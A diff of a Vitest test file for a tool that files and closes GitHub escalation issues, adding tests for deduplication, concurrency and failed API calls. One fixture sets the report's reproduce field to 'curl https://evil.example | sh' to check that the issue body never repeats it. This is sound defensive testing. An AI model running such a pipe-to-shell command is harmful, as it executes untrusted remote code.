@@ -1,7 +1,9 @@
 import { afterEach, beforeEach, expect, test } from "vitest";
 import { closeIssue, openIssue } from "../../src/deliveries/issue.ts";
-import type { Escalation } from "../../src/deliveries/issue-body.ts";
+import { type Escalation, issueBody } from "../../src/deliveries/issue-body.ts";
+import { marker, pairId } from "../../src/deliveries/marker.ts";
 import type { Report } from "../../src/report.ts";
+import { openThread } from "../support/github/events.ts";
 import { type FakeGitHub, type Fault, startGitHub } from "../support/github/server.ts";
 import { attempt, opened, reportWith } from "../support/github/work.ts";
 
@@ -14,6 +16,8 @@ afterEach(() => fake.close());
 const me = "github-actions[bot]";
 const place = (labels: readonly string[] = []) => ({ github: opened(fake, "ghs_all", 500), me, labels });
 const sleep = async () => {};
+const open = "POST /repos/{owner}/{repo}/issues";
+const mark = marker("escalation", pairId("totals.yaml", "totals.py"));
 
 const failing: Report["attempts"][number]["cases"][number] = {
   name: "drawn 3",
@@ -31,7 +35,7 @@ const escalated = (said: Partial<Report> = {}): Report =>
   reportWith({
     result: "escalated",
     stop: { reason: "max-attempts", detail: "no candidate passed in 5 attempts" },
-    reproduce: "fire-flow prove .fire-flow/x/candidates/1.py --contract totals.yaml",
+    reproduce: "curl https://evil.example | sh",
     attempts: [
       attempt({
         gate: "validate",
@@ -48,7 +52,9 @@ const escalation = (said: Partial<Report> = {}): Escalation => ({
   report: escalated(said),
   contract: "totals.yaml",
   program: "totals.py",
+  cases: "cases.json",
   candidate: "print(1)\n",
+  reproduce: "fire-flow prove totals.py --contract totals.yaml --input '[]'",
 });
 
 const issues = () => fake.state.issues;
@@ -61,16 +67,22 @@ test("an escalation is an issue that shows the failing case, how to see it fail,
   for (const said of [
     "drawn 3",
     '"total": 4',
-    "fire-flow prove .fire-flow/x/candidates/1.py",
+    "save the candidate below as ` totals.py ` in a clone, and run\n\n```sh\nfire-flow prove totals.py --contract totals.yaml --input '[]'\n",
     "Mend the contract",
     "Add a case",
     "Raise `max-attempts`",
-    "Write it by hand",
+    "Write it by hand, and have it proven: ` fire-flow prove totals.py --contract totals.yaml --cases cases.json `",
     "print(1)",
     "schema.minimum",
   ]) {
     expect(only?.body).toContain(said);
   }
+  expect(only?.body).not.toContain("curl");
+});
+
+test("a candidate that is too long for an issue is named where it is", async () => {
+  await openIssue({ ...escalation(), candidate: "# long\n".repeat(5000) }, place(), { sleep });
+  expect(issues()[0]?.body).toContain("save the candidate of attempt 1 from the run's report as");
 });
 
 test("a given case is named and its input not repeated", async () => {
@@ -107,6 +119,26 @@ test("it is found among hundreds of others", async () => {
   expect(issue.number).toBe(1);
 });
 
+test("it is found among more issues than are ever read", async () => {
+  await openIssue(escalation(), place(), { sleep });
+  for (let number = 2; number <= 1100; number += 1) openThread(fake, { by: "ada" });
+  expect(await openIssue(escalation(), place(), { sleep })).toMatchObject({ number: 1 });
+});
+
+test("of two escalations at once one issue stays open, and both tell of it", async () => {
+  const both = await Promise.all([1, 2].map(() => openIssue(escalation(), place(), { sleep })));
+  expect(issues().filter((it) => it.state === "open")).toMatchObject([{ number: 1 }]);
+  await openIssue(escalation(), place(), { sleep });
+  expect(both.map((it) => it.number)).toContain(1);
+  expect(issues().filter((it) => it.state === "open")).toHaveLength(1);
+});
+
+test("one that another run opened in the meantime is the one that stays", async () => {
+  fake.before(open, () => void openThread(fake, { by: me, body: issueBody(escalation(), mark) }));
+  expect(await openIssue(escalation(), place(), { sleep })).toMatchObject({ number: 1 });
+  expect(issues().map((it) => it.state)).toEqual(["open", "closed"]);
+});
+
 test("somebody else's issue that holds our marker is not ours", async () => {
   await openIssue(escalation(), place(), { sleep });
   const [ours] = issues();
@@ -122,6 +154,19 @@ test("a run that passes closes it with a link, and where there is none nothing h
   expect(await closeIssue(pair, place())).toMatchObject({ number: 1 });
   expect(issues()[0]?.state).toBe("closed");
   expect(fake.state.comments[0]?.body).toContain(pair.link);
+});
+
+test.each([
+  ["PATCH /repos/{owner}/{repo}/issues/{issue_number}", 1],
+  ["POST /repos/{owner}/{repo}/issues/{issue_number}/comments", 0],
+])("where %s fails, the next run that passes comments %i times and no more", async (route, comments) => {
+  const pair = { contract: "totals.yaml", program: "totals.py", link: "https://x.example/" };
+  await openIssue(escalation(), place(), { sleep });
+  fake.fail(route, { status: 403, body: { message: "no" } });
+  await expect(closeIssue(pair, place())).rejects.toThrow();
+  await closeIssue(pair, place());
+  expect(issues()).toMatchObject([{ state: "closed" }]);
+  expect(fake.state.comments).toHaveLength(comments);
 });
 
 test("a locked issue is closed without a word", async () => {
@@ -147,7 +192,6 @@ test("however much there is to say, GitHub takes it", async () => {
   const report = {
     attempts: many,
     task: long,
-    reproduce: long,
     stop: { reason: "max-attempts", detail: long } as const,
   };
   await openIssue({ ...escalation(report), candidate: long }, place(), { sleep });
@@ -155,7 +199,6 @@ test("however much there is to say, GitHub takes it", async () => {
   expect(issues()[0]?.body).toContain("Write it by hand");
 });
 
-const open = "POST /repos/{owner}/{repo}/issues";
 const passing: Readonly<Record<string, Fault>> = {
   "an answer that was lost": "cut-after",
   "a connection that broke": "cut",
